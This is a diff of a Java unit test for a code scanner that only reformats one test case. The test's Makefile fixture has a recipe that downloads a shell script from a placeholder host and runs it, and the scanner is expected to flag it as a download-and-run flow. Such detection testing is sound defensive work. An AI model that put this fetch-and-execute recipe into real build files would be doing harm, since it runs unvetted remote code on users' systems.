@@ -132,8 +132,7 @@ class CodeCheckTest {
     @Test
     void recipes_of_make_are_commands() {
         Report report = with(
-                "assets/run.mk",
-                "run:\n\t@curl -so /tmp/run.sh https://get.tool.example/run.sh\n\t@sh /tmp/run.sh\n");
+                "assets/run.mk", "run:\n\t@curl -so /tmp/run.sh https://get.tool.example/run.sh\n\t@sh /tmp/run.sh\n");
         assertThat(rules(report)).contains("flow-download-run");
     }
 }
